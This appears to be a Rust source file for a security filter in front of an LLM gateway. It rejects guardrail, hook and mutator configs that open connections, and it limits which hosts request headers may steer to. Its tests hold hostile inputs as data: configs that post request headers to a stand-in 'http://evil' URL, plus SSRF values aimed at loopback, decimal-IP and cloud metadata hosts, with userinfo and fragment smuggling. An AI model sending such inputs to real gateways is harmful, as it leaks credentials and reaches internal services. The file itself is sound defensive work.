//! What no request may make the gateway do, whether or not it names an entity.
//!
//! Guardrails, hooks and mutators run inside the gateway with every request header at hand; some of them post those to a URL
//! of the request's choice. So a request may name only checks that open no connection. A request without an entity steers
//! only to hosts of the operator's list, and nothing leads to the machine, its link or a metadata service.
//!
//! Source: gateway 1.15.2 `src/handlers/handlerUtils.ts` `convertHooksShorthand`, `src/middlewares/hooks`, `plugins/`.

use http::request::Parts;

use super::{
    Settings,
    config_tree::{
        Tree,
        key::{camel, shown},
        node::Node,
    },
    host,
    inputs::{INPUT_GUARDRAILS, Inputs, OUTPUT_GUARDRAILS},
    reach,
    steering::{self, Kind, Steering},
};
use crate::dialect::PlanError;

/// The gateway's checks that open no connection and read nothing but the request and the reply: the default of
/// `destination.allowed_checks`. Not among them: `default.log`, `default.webhook`, `default.jwt` and `default.validUrls`, nor
/// any plugin of a vendor.
pub const SAFE_CHECKS: [&str; 18] = [
    "default.addPrefix",
    "default.alllowercase",
    "default.allowedRequestTypes",
    "default.alluppercase",
    "default.characterCount",
    "default.contains",
    "default.containsCode",
    "default.endsWith",
    "default.jsonKeys",
    "default.jsonSchema",
    "default.modelRules",
    "default.modelWhitelist",
    "default.notNull",
    "default.regexMatch",
    "default.regexReplace",
    "default.requiredMetadataKeys",
    "default.sentenceCount",
    "default.wordCount",
];

/// Members of a guardrail that are options, not checks.
const GUARDRAIL_OPTIONS: [&str; 8] =
    ["deny", "on_fail", "on_success", "async", "id", "type", "guardrail_version_id", "sequential"];

/// Checks the guardrails in headers.
///
/// # Errors
/// [`PlanError::DestinationNotAllowed`] for a check that is not allowed, [`PlanError::InvalidConfig`] for what is not JSON.
pub(super) fn guardrail_headers(inputs: &Inputs<'_>, settings: &Settings) -> Result<(), PlanError> {
    for (name, value) in [(INPUT_GUARDRAILS, inputs.input_guardrails), (OUTPUT_GUARDRAILS, inputs.output_guardrails)] {
        let Some(value) = value else { continue };
        let node =
            Node::parse(value).ok_or_else(|| PlanError::InvalidConfig { reason: format!("{name} holds no JSON") })?;
        if node.doubled_key().is_some() {
            // Of two `id` the gateway takes the last.
            return Err(PlanError::InvalidConfig { reason: format!("{name} spells a key twice") });
        }
        if !are_guardrails_allowed(&node, settings) {
            return Err(not_allowed(name.as_str()));
        }
    }
    Ok(())
}

/// Checks guardrails, hooks and mutators at any depth of a config.
///
/// # Errors
/// [`PlanError::DestinationNotAllowed`].
pub(super) fn checks(node: &Node<'_>, settings: &Settings) -> Result<(), PlanError> {
    match node {
        Node::Null | Node::Bool(_) | Node::Number(_) | Node::Text(_) => Ok(()),
        Node::List(items) => items.iter().try_for_each(|item| checks(item, settings)),
        Node::Map(members) => members.iter().try_for_each(|(key, value)| {
            let read = camel(key);
            let allowed = if ends_with(&read, "guardrails") || ends_with(&read, "mutators") {
                are_guardrails_allowed(value, settings)
            } else if ends_with(&read, "hooks") {
                are_hooks_allowed(value, settings)
            } else {
                return checks(value, settings);
            };
            if allowed { Ok(()) } else { Err(not_allowed(&format!("{} in x-portkey-config", shown(&read)))) }
        }),
    }
}

/// Checks the headers and the config of a request that names no entity.
///
/// # Errors
/// [`PlanError::DestinationNotAllowed`].
pub(super) fn unmatched(
    head: &Parts,
    inputs: &Inputs<'_>,
    config: Option<&Node<'_>>,
    tree: Option<&Tree<'_>>,
    settings: &Settings,
) -> Result<(), PlanError> {
    for (steering, value) in &inputs.steering {
        if !may_steer(steering, value, settings) {
            return Err(not_allowed(steering.header.unwrap_or(steering.field)));
        }
    }
    if let Some(config) = config {
        steering_below(config, settings)?;
    }
    let mut bedrock = inputs.provider == Some("bedrock");
    if let Some(tree) = tree {
        tree.root.visit(&mut |target| bedrock |= target.text("provider") == Some("bedrock"));
    }
    if bedrock { file_id(head, settings) } else { Ok(()) }
}

/// Checks the host that Bedrock cuts out of a file id, for a target that is not ours.
///
/// # Errors
/// [`PlanError::DestinationNotAllowed`].
pub(super) fn file_id(head: &Parts, settings: &Settings) -> Result<(), PlanError> {
    let Some(bucket) = reach::file_id_bucket("bedrock", head) else { return Ok(()) };
    let steering = steering::of_key("awsS3Bucket");
    let allowed = steering.is_some_and(|steering| may_steer(steering, &bucket, settings));
    if allowed { Ok(()) } else { Err(not_allowed("path")) }
}

fn ends_with(text: &str, suffix: &str) -> bool {
    let tail = text.len().checked_sub(suffix.len()).and_then(|at| text.as_bytes().get(at..));
    tail.is_some_and(|tail| tail.eq_ignore_ascii_case(suffix.as_bytes()))
}

/// Whether every check of a list of guardrails or mutators in shorthand is allowed.
fn are_guardrails_allowed(list: &Node<'_>, settings: &Settings) -> bool {
    let Some(guardrails) = list.items() else { return matches!(list, Node::Null) };
    guardrails.iter().all(|guardrail| match guardrail {
        Node::Text(id) => is_check_allowed(id, settings),
        // An option whose name the gateway has camel-cased is a check to it (in mutators `on_fail` is read as `onFail`), so
        // the `id` inside one counts as well.
        Node::Map(members) => members.iter().all(|(key, parameters)| match parameters.member("id") {
            None => GUARDRAIL_OPTIONS.contains(&&**key) || is_check_allowed(key, settings),
            Some(Node::Text(id)) => is_check_allowed(id, settings),
            Some(Node::Null | Node::Bool(_) | Node::Number(_) | Node::List(_) | Node::Map(_)) => false,
        }),
        Node::Null | Node::Bool(_) | Node::Number(_) | Node::List(_) => false,
    })
}

/// Whether every check of a list of hooks is allowed.
fn are_hooks_allowed(list: &Node<'_>, settings: &Settings) -> bool {
    let Some(hooks) = list.items() else { return matches!(list, Node::Null) };
    hooks.iter().all(|hook| match hook {
        Node::Text(id) => is_check_allowed(id, settings),
        Node::Map(members) => {
            members.iter().filter(|(key, _)| camel(key).eq_ignore_ascii_case("checks")).all(|(_, checks)| {
                let Some(checks) = checks.items() else { return false };
                checks.iter().all(|check| {
                    check.member("id").and_then(Node::text).is_some_and(|id| {
                        // Hooks have no shorthand: the id is taken as it stands.
                        id.contains('.') && is_check_allowed(id, settings)
                    })
                })
            })
        }
        Node::Null | Node::Bool(_) | Node::Number(_) | Node::List(_) => false,
    })
}

/// Whether the gateway may run this check. Shorthand may leave out `default.`.
fn is_check_allowed(id: &str, settings: &Settings) -> bool {
    settings.allowed_checks.iter().any(|allowed| {
        allowed == id || (!id.contains('.') && allowed.strip_prefix("default.").is_some_and(|name| name == id))
    })
}

/// Checks what steers in any object of a config, whatever object it is: a gateway reads some of them.
fn steering_below(node: &Node<'_>, settings: &Settings) -> Result<(), PlanError> {
    match node {
        Node::Null | Node::Bool(_) | Node::Number(_) | Node::Text(_) => Ok(()),
        Node::List(items) => items.iter().try_for_each(|item| steering_below(item, settings)),
        Node::Map(members) => members.iter().try_for_each(|(key, value)| match steering::of_key(&camel(key)) {
            None => steering_below(value, settings),
            Some(steering) => match value {
                Node::Text(text) if text.is_empty() || may_steer(steering, text, settings) => Ok(()),
                Node::Null | Node::Bool(_) | Node::Number(_) | Node::Text(_) | Node::List(_) | Node::Map(_) => {
                    Err(not_allowed(&format!("{} in x-portkey-config", steering.field)))
                }
            },
        }),
    }
}

/// Whether a request without an entity may steer the gateway like this.
fn may_steer(steering: &Steering, value: &str, settings: &Settings) -> bool {
    let listed = |target: Option<url::Host>| {
        target
            .is_some_and(|target| !host::is_forbidden(&target) && host::is_listed(&target, &settings.passthrough_hosts))
    };
    match steering.kind {
        Kind::Url => listed(host::of_url(value)),
        Kind::Label(suffix) => {
            steering::is_plain_segment(value) && listed(url::Host::parse(&format!("{value}{suffix}")).ok())
        }
        Kind::Region => steering::is_plain_region(value),
        Kind::Segment => steering::is_plain_segment(value),
        Kind::Method => true,
    }
}

fn not_allowed(input: &str) -> PlanError {
    PlanError::DestinationNotAllowed { input: input.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings() -> Settings {
        Settings {
            passthrough_hosts: vec!["llm.example".to_owned(), ".corp.example".to_owned(), "127.0.0.1".to_owned()],
            ..Settings::default()
        }
    }

    #[test]
    fn only_checks_that_stay_inside() {
        for (config, allowed) in [
            (r#"{"input_guardrails":[{"default.contains":{"words":["a"]},"deny":true,"id":"g1"}]}"#, true),
            (r#"{"input_guardrails":[{"contains":{"words":["a"]}}]}"#, true),
            (r#"{"input_guardrails":[{"regexMatch":{"id":"default.contains"}}]}"#, true),
            (r#"{"output_mutators":[{"default.addPrefix":{"prefix":"a"}}]}"#, true),
            (
                r#"{"before_request_hooks":[{"type":"guardrail","checks":[{"id":"default.wordCount","parameters":{}}]}]}"#,
                true,
            ),
            (r#"{"input_guardrails":null,"after_request_hooks":[]}"#, true),
            (r#"{"input_guardrails":[{"default.log":{"logURL":"http://evil"}}]}"#, false),
            (r#"{"input_guardrails":[{"log":{"logURL":"http://evil"}}]}"#, false),
            (r#"{"inputGuardrails":[{"log":{}}]}"#, false),
            (r#"{"input_Guardrails":[{"log":{}}]}"#, false),
            (r#"{"output_guardrails":[{"default.contains":{"id":"default.webhook"}}]}"#, false),
            (r#"{"output_guardrails":[{"default.contains":{"id":["default.log","."]}}]}"#, false),
            (r#"{"output_guardrails":[{"default.contains":{"words":[]},"webhook":{}}]}"#, false),
            (r#"{"output_guardrails":[{"default.contains.log":{}}]}"#, false),
            (r#"{"output_guardrails":[{"default.log.contains":{}}]}"#, false),
            (r#"{"output_guardrails":[{"__proto__":{}}]}"#, false),
            (r#"{"input_guardrails":["pg-stored"]}"#, false),
            (r#"{"input_guardrails":"default.log"}"#, false),
            (r#"{"input_mutators":[{"default.jwt":{"jwksUri":"http://evil"}}]}"#, false),
            (r#"{"before_request_hooks":[{"checks":[{"id":"default.log"}]}]}"#, false),
            (r#"{"beforeRequestHooks":[{"checks":[{"id":"contains"}]}]}"#, false),
            (r#"{"after_request_hooks":[{"checks":{"0":{"id":"default.log"}}}]}"#, false),
            (r#"{"after_request_hooks":[{"checks":[{"id":["default.log"]}]}]}"#, false),
            (r#"{"after_request_hooks":[{"checks":[{"i_d":"x"}]}]}"#, false),
            (r#"{"targets":[{"targets":[{"output_guardrails":[{"default.validUrls":{}}]}]}]}"#, false),
            // Measured on 1.15.2: each of these posted every header of the request.
            (r#"{"input_mutators":[{"on_fail":{"id":"default.log","logURL":"http://evil"}}]}"#, false),
            (r#"{"output_mutators":[{"on_success":{"id":"default.log","logURL":"http://evil"}}]}"#, false),
            (r#"{"input_mutators":[{"guardrail_version_id":{"id":"default.log"}}]}"#, false),
            (r#"{"inputGuardrails":[{"on_fail":{"id":"default.log","logURL":"http://evil"}}]}"#, false),
            (
                r#"{"input_guardrails":[{"default.contains":{},"on_fail":{"feedback":{"value":-5}},"id":"g","type":"guardrail"}]}"#,
                true,
            ),
            (r#"{"anything":{"my_guardrails":[{"portkey.pii":{}}]}}"#, false),
        ] {
            let node = Node::parse(config).unwrap();
            assert_eq!(checks(&node, &settings()).is_ok(), allowed, "{config}");
        }
    }

    #[test]
    fn guardrails_in_headers_spell_a_key_once() {
        for (value, allowed) in [
            (r#"[{"default.contains":{"words":["a"]}}]"#, true),
            (r#"[{"default.log":{"logURL":"http://evil"}}]"#, false),
            (r#"[{"default.contains":{"id":"default.contains","id":"default.log","logURL":"http://evil"}}]"#, false),
            (r#"[{"default.contains":{"words":[]},"default.contains":{"id":"default.log"}}]"#, false),
            ("[", false),
        ] {
            for name in [INPUT_GUARDRAILS, OUTPUT_GUARDRAILS] {
                let headers = http::HeaderMap::from_iter([(name, value.parse().unwrap())]);
                let inputs = Inputs::read(&headers).unwrap();
                assert_eq!(guardrail_headers(&inputs, &settings()).is_ok(), allowed, "{value}");
            }
        }
    }

    #[test]
    fn an_operator_may_allow_more() {
        let settings = Settings { allowed_checks: vec!["portkey.pii".to_owned()], ..Settings::default() };
        for (id, expected) in [("portkey.pii", true), ("pii", false), ("default.contains", false)] {
            assert_eq!(is_check_allowed(id, &settings), expected, "{id}");
        }
    }

    #[test]
    fn without_an_entity_only_the_operators_hosts() {
        for (header, value, allowed) in [
            ("x-portkey-custom-host", "https://llm.example/v1", true),
            ("x-portkey-custom-host", "https://a.corp.example:8443/v1", true),
            ("x-portkey-custom-host", "https://evil.example/v1", false),
            ("x-portkey-custom-host", "https://llm.example@evil.example/v1", false),
            ("x-portkey-custom-host", "http://127.0.0.1:8901/v1", false),
            ("x-portkey-custom-host", "http://2130706433/", false),
            ("x-portkey-custom-host", "llm.example", false),
            ("x-portkey-azure-resource-name", "mine", false),
            ("x-portkey-azure-resource-name", "127.0.0.1/#", false),
            ("x-portkey-azure-foundry-url", "https://llm.example/x", true),
            ("x-portkey-azure-foundry-url", "http://[::1]/x", false),
            ("x-portkey-huggingface-base-url", "http://metadata.google.internal/", false),
            ("x-portkey-aws-region", "eu-west-1", true),
            ("x-portkey-aws-region", "evil.example/#", false),
            ("x-portkey-vertex-region", "127.0.0.1/#", false),
            ("x-portkey-oracle-region", "us-ashburn-1", true),
            ("x-portkey-workers-ai-account-id", "abc123", true),
            ("x-portkey-workers-ai-account-id", "../../x", false),
            ("x-portkey-snowflake-account", "evil.example/", false),
            ("x-portkey-aws-s3-bucket", "evil.example/#", false),
            ("x-portkey-azure-auth-mode", "managed", true),
        ] {
            let steering = steering::of_header(header).unwrap();
            assert_eq!(may_steer(steering, value, &settings()), allowed, "{header}: {value}");
            let camel = camel(steering.field);
            let config = serde_json::json!({ "targets": [{ "nested": [{ &*camel: value }] }] }).to_string();
            let node = Node::parse(&config).unwrap();
            assert_eq!(steering_below(&node, &settings()).is_ok(), allowed, "{config}");
        }
    }

    #[test]
    fn a_list_can_open_azure() {
        let settings = Settings { passthrough_hosts: vec![".openai.azure.com".to_owned()], ..Settings::default() };
        let steering = steering::of_key("resourceName").unwrap();
        assert!(may_steer(steering, "mine", &settings));
        assert!(!may_steer(steering, "evil.example/.openai.azure.com/#", &settings));
    }
}
